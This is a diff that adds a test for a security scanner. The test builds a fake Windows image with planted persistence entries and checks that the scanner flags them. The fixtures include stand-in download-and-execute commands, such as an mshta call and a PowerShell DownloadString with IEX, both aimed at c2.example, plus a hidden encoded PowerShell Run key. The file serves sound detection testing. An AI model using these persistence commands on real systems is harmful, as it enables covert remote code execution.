@@ -175,6 +175,75 @@ REG
     jq -e '[.findings[] | select(.vulnerability.product.id == "zoom") | .evidence[].text] | any(test("5.12.0.8964"))' "$OUT"
 }
 
+# task NAME COMMAND ARGUMENTS: a scheduled task file as Task Scheduler writes it (UTF-16LE)
+task() {
+    local f="$IMG2/Windows/System32/Tasks/$1"
+    mkdir -p "$(dirname "$f")"
+    { printf '\xff\xfe'; printf '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions Context="Author"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions></Task>\r\n' "$2" "$3" | iconv -f UTF-8 -t UTF-16LE; } >"$f"
+}
+
+@test "an offline Windows image: suspicious Run keys, services, scheduled tasks and Startup programs are traces" {
+    IMG2="$BATS_TEST_TMPDIR/img2"
+    local startup=Microsoft/Windows/Start\ Menu/Programs
+    mkdir -p "$IMG2/Windows/System32/config" "$IMG2/Users/alice/AppData/Roaming/$startup/Startup" \
+        "$IMG2/ProgramData/$startup/StartUp"
+    hive "$IMG2/Windows/System32/config/SOFTWARE" 'HKEY_LOCAL_MACHINE\SOFTWARE' <<REG
+[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\$SID]
+"ProfileImagePath"="C:\\\\Users\\\\alice"
+
+[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]
+"SecurityHealth"="%windir%\\\\system32\\\\SecurityHealthSystray.exe"
+"Updater"="powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
+
+[HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run]
+"Helper"="\\"C:\\\\Users\\\\Public\\\\helper.exe\\" /silent"
+REG
+    hive "$IMG2/Windows/System32/config/SYSTEM" 'HKEY_LOCAL_MACHINE\SYSTEM' <<'REG'
+[HKEY_LOCAL_MACHINE\SYSTEM\Select]
+"Current"=dword:00000001
+
+[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\Spooler]
+"ImagePath"="%SystemRoot%\\System32\\spoolsv.exe"
+
+[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\VendorSvc]
+"ImagePath"="\"C:\\Program Files\\Vendor\\svc.exe\""
+
+[HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinUpdSvc]
+"ImagePath"="C:\\Users\\alice\\AppData\\Roaming\\svc\\svchost.exe"
+REG
+    hive "$IMG2/Users/alice/NTUSER.DAT" 'HKEY_CURRENT_USER' <<'REG'
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
+"com.squirrel.Teams.Teams"="C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\""
+
+[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\RunOnce]
+"x"="mshta http://c2.example/a.hta"
+REG
+    task 'Microsoft/Windows/Defrag/ScheduledDefrag' '%windir%\system32\defrag.exe' '-c -h -o -$'
+    task 'OneDrive Standalone Update Task' '%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe' '/reporting'
+    task 'Sync' 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' "-w hidden -c IEX (New-Object Net.WebClient).DownloadString(&apos;http://c2.example/a&apos;)"
+    printf '[.ShellClassInfo]\r\n' >"$IMG2/ProgramData/$startup/StartUp/desktop.ini"
+    printf 'L\0\0\0' >"$IMG2/ProgramData/$startup/StartUp/OneNote.lnk"
+    printf 'CreateObject("WScript.Shell").Run "calc"\r\n' >"$IMG2/Users/alice/AppData/Roaming/$startup/Startup/update.vbs"
+    run "$TENKEN" scan --root "$IMG2" --no-memory --no-disk --out "$OUT" --no-progress
+    [ "$status" -eq 0 ]
+    validate "$OUT"
+    run jq -r '[.traces[] | select(.kind == "persistence") | "\(.why)|\(.path)|\(.user // "-")"] | sort | .[]' "$OUT"
+    printf '%s\n' "${lines[@]}"
+    [ "${#lines[@]}" -eq 6 ]
+    [ "${lines[0]}" = "download-exec|/Windows/System32/Tasks/Sync|-" ]
+    [ "${lines[1]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater|-' ]
+    [ "${lines[2]}" = "script-url|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x|alice" ]
+    [ "${lines[3]}" = "startup-program|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.vbs|alice" ]
+    [ "${lines[4]}" = 'tmp-path|HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Helper|-' ]
+    [ "${lines[5]}" = 'user-dir|HKLM\SYSTEM\CurrentControlSet\Services\WinUpdSvc|-' ]
+    jq -e '.traces[] | select(.why == "download-exec") | .text | contains("DownloadString(\u0027http://c2.example/a\u0027)")' "$OUT"
+    jq -e '[.findings[] | select(.id == "TK-TRACE-PERSISTENCE")] | length == 1' "$OUT"
+    # --no-traces: none looked for
+    run "$TENKEN" scan --root "$IMG2" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
+    [ "$status" -eq 0 ]
+    jq -e '(.traces | length) == 0' "$OUT"
+}
+
 @test "an offline Windows image: the outdated Zoom is judged from the registry version" {
     run "$TENKEN" scan --root "$IMG" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
     [ "$status" -eq 0 ]
